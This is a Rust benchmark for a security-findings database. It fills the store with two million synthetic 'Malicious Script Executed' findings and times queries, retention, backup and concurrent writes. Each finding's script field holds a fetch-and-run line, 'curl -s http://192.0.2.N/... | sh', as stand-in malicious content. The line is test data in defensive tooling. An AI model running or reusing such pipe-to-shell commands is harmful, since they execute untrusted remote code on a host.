//! How a database of two million findings answers, and whether its writer waits for those who look, copy or forget.

use std::{
    path::Path,
    sync::atomic::{AtomicBool, Ordering},
    time::{Duration, Instant},
};

use anyhow::Context;
use prost::Message;
use proto::{
    scc::{File, Finding, Process},
    well_known::{ListValue, Timestamp, Value, value::Kind},
};
use store::{Incoming, Search, Store};

use crate::statistics::{percentile, show};

/// Findings that are there; `SCRIPTWATCH_BENCH_FINDINGS` says another number.
fn size() -> u64 {
    let wanted = std::env::var("SCRIPTWATCH_BENCH_FINDINGS").ok().and_then(|number| number.parse().ok());
    wanted.unwrap_or(2_000_000)
}

const NODES: u64 = 1000;
/// Findings in a transaction, as the writer groups them under load.
const GROUP: u64 = 4096;
/// When the first was stored, and how far apart they are: two million are 23 days.
const FIRST_NS: i64 = 1_800_000_000_000_000_000;
const APART_NS: i64 = 1_000_000_000;

pub(crate) fn run() -> anyhow::Result<()> {
    let dir = tempfile::tempdir()?;
    let path = dir.path().join("findings.db");
    let mut store = Store::open(&path)?;
    let begun = Instant::now();
    for first in (0..size()).step_by(GROUP as usize) {
        put(&mut store, first..(first + GROUP).min(size()))?;
    }
    let log = std::fs::metadata(dir.path().join("findings.db-wal"))?.len();
    let bytes = (std::fs::metadata(&path)?.len() + log) >> 20;
    println!("{} findings stored in {:.0} s, {bytes} MiB", size(), begun.elapsed().as_secs_f64());
    looked_at(&path)?;
    forgotten(&mut store, &path)?;
    while_others_use_it(&mut store, "nobody else uses it", &path, |_| {
        std::thread::sleep(Duration::from_secs(3));
        Ok(())
    })?;
    let copy = dir.path().join("copy.db");
    while_others_use_it(&mut store, "it is copied (`collector backup`)", &path, |store| {
        Ok(store.back_up(&copy)?)
    })?;
    while_others_use_it(&mut store, "somebody pages through all of it", &path, paged)
}

/// Finding number N: of one of some hundred pods, with one of some techniques, and one in a thousand with a rare one.
fn finding(number: u64) -> Finding {
    let text = |text: String| Value { kind: Some(Kind::StringValue(text)) };
    let technique =
        if number.is_multiple_of(1000) { "T1496".to_owned() } else { format!("T1059.{:03}", number % 9) };
    let list = ListValue { values: vec![text(technique)] };
    let contents = format!("curl -s http://192.0.2.{}/{number} | sh\n", number % 250).repeat(8);
    let script =
        File { size: contents.len() as i64, sha256: format!("{number:064x}"), contents, ..File::default() };
    Finding {
        name: format!("projects/p/sources/1/locations/global/findings/{number:032x}"),
        parent: "projects/p/sources/1/locations/global".to_owned(),
        category: "Malicious Script Executed".to_owned(),
        event_time: Some(Timestamp { seconds: at(number) / 1_000_000_000, nanos: 0 }),
        processes: vec![Process { script: Some(script), ..Process::default() }],
        source_properties: [
            ("Node_Name", text(node(number))),
            ("Pod_Namespace", text(format!("namespace-{}", number % 400))),
            ("Pod_Name", text(format!("pod-{}", number % 5000))),
            ("Container_Image_Uri", text(format!("registry.example/image-{}:1", number % 300))),
            ("Triage_Level", text(if number.is_multiple_of(10) { "urgent" } else { "usual" }.to_owned())),
            ("Verdict_Techniques", Value { kind: Some(Kind::ListValue(list)) }),
        ]
        .map(|(key, value)| (key.to_owned(), value))
        .into(),
        ..Finding::default()
    }
}

fn node(number: u64) -> String {
    format!("node-{}", number % NODES)
}

fn at(number: u64) -> i64 {
    FIRST_NS + number as i64 * APART_NS
}

fn put(store: &mut Store, numbers: std::ops::Range<u64>) -> anyhow::Result<()> {
    let now = at(numbers.start);
    let all: Vec<(String, Incoming)> = numbers
        .map(|number| {
            let finding = finding(number);
            (node(number), Incoming::new(finding.name.clone(), finding.encode_to_vec().into(), 1))
        })
        .collect();
    Ok(store.put_all(now, all.iter().map(|(node, one)| (node.as_str(), std::slice::from_ref(one))))?)
}

/// What `list`, `show`, `nodes` and the page ask.
fn looked_at(path: &Path) -> anyhow::Result<()> {
    let search = |change: fn(&mut Search)| {
        let mut search = Search::default();
        change(&mut search);
        search
    };
    let middle = at(size() / 2);
    let questions = [
        ("the newest", Search::default()),
        ("of the middle", Search { until_ns: Some(middle), ..Search::default() }),
        ("of a pod", search(|s| s.pod = Some("namespace-7/pod-7".to_owned()))),
        ("of a namespace", search(|s| s.namespace = Some("namespace-7".to_owned()))),
        ("of a namespace that is not there", search(|s| s.namespace = Some("namespace".to_owned()))),
        ("of an image", search(|s| s.image = Some("registry.example/image-7:".to_owned()))),
        ("of a node", search(|s| s.node = Some("node-7".to_owned()))),
        ("of a rare technique", search(|s| s.technique = Some("T1496".to_owned()))),
        ("of a technique that is not there", search(|s| s.technique = Some("T1003".to_owned()))),
        ("of a script's hash", search(|s| s.sha256 = Some(format!("{:064x}", 100_000)))),
    ];
    for (what, question) in questions {
        let (took, found) = timed(|| Ok(Store::open_for_reading(path)?.page(&question, 100)?.0.len()))?;
        println!("  a page of 100 {what}: {took:.1} ms ({found} found)");
    }
    let id = format!("{:032x}", size() / 3);
    let (took, found) = timed(|| Ok(Store::open_for_reading(path)?.find(&id, None)?.is_some()))?;
    println!("  one by its id: {took:.1} ms (found: {found})");
    let (took, count) = timed(|| Ok(Store::open_for_reading(path)?.count()?))?;
    println!("  how many there are: {took:.1} ms ({count})");
    let (took, sensors) = timed(|| Ok(Store::open_for_reading(path)?.sensors()?.len()))?;
    println!("  the sensors: {took:.1} ms ({sensors})");
    let (took, found) =
        timed(|| Ok(Store::open_for_reading(path)?.waiting_first("scc", 0, 10, |_| 0)?.len()))?;
    println!("  what a sink that is behind gets next: {took:.1} ms ({found})");
    Ok(())
}

/// The median of five answers, in ms, and the answer.
fn timed<T>(mut ask: impl FnMut() -> anyhow::Result<T>) -> anyhow::Result<(f64, T)> {
    let mut times = Vec::new();
    let mut last = None;
    for _ in 0..5 {
        let begun = Instant::now();
        last = Some(ask()?);
        times.push(begun.elapsed().as_secs_f64() * 1e3);
    }
    Ok((percentile(&mut times, 0.5), last.context("an answer")?))
}

/// What retention does each minute, when there is nothing to do and when there is.
fn forgotten(store: &mut Store, path: &Path) -> anyhow::Result<()> {
    let much = 1 << 50;
    let (took, gone) = timed(|| Ok(store.forget(Some(at(0)), Some(much), &[])?))?;
    println!("  retention that finds nothing: {took:.1} ms ({gone} gone)");
    // It goes in portions, between which findings are stored.
    let before = at(size() / 50);
    portions("age", || Ok(store.forget(Some(before), None, &[])?))?;
    let database = rusqlite::Connection::open(path)?;
    let held: u64 = database.query_row("SELECT SUM(bytes) FROM held", [], |row| row.get(0))?;
    portions("bytes", || Ok(store.forget(None, Some(held / 100 * 98), &[])?))
}

fn portions(by: &str, mut forget: impl FnMut() -> anyhow::Result<u64>) -> anyhow::Result<()> {
    let (mut times, mut all) = (Vec::new(), 0);
    loop {
        let begun = Instant::now();
        let gone = forget()?;
        if gone == 0 {
            break;
        }
        all += gone;
        times.push(begun.elapsed().as_secs_f64() * 1e3);
    }
    println!("  retention by {by}, one in fifty ({all} gone), each portion: {}", show(&mut times, "ms"));
    Ok(())
}

/// How long the writer takes for one finding, while something else is done.
fn while_others_use_it(
    store: &mut Store,
    what: &str,
    path: &Path,
    other: impl FnOnce(&Store) -> anyhow::Result<()> + Send,
) -> anyhow::Result<()> {
    let is_done = AtomicBool::new(false);
    let mut times = Vec::new();
    let took = std::thread::scope(|scope| {
        let using = scope.spawn(|| {
            let begun = Instant::now();
            let done = Store::open_for_reading(path).map_err(Into::into).and_then(|store| other(&store));
            is_done.store(true, Ordering::Relaxed);
            done.map(|()| begun.elapsed())
        });
        let first = size() + store.last_seq()? as u64;
        for number in first.. {
            if is_done.load(Ordering::Relaxed) {
                break;
            }
            let begun = Instant::now();
            put(store, number..number + 1)?;
            times.push(begun.elapsed().as_secs_f64() * 1e3);
            std::thread::sleep(Duration::from_millis(10));
        }
        using.join().map_err(|_| anyhow::anyhow!("a thread panicked"))?
    })?;
    let worst = percentile(&mut times, 1.0);
    println!(
        "  one finding stored while {what} ({:.1} s): {}, worst {worst:.0} ms",
        took.as_secs_f64(),
        show(&mut times, "ms")
    );
    Ok(())
}

fn paged(store: &Store) -> anyhow::Result<()> {
    let mut after = None;
    loop {
        let (page, more) = store.page(&Search { after, ..Search::default() }, 1000)?;
        after = page.last().map(store::Stored::cursor);
        if !more || after.is_none() {
            return Ok(());
        }
    }
}
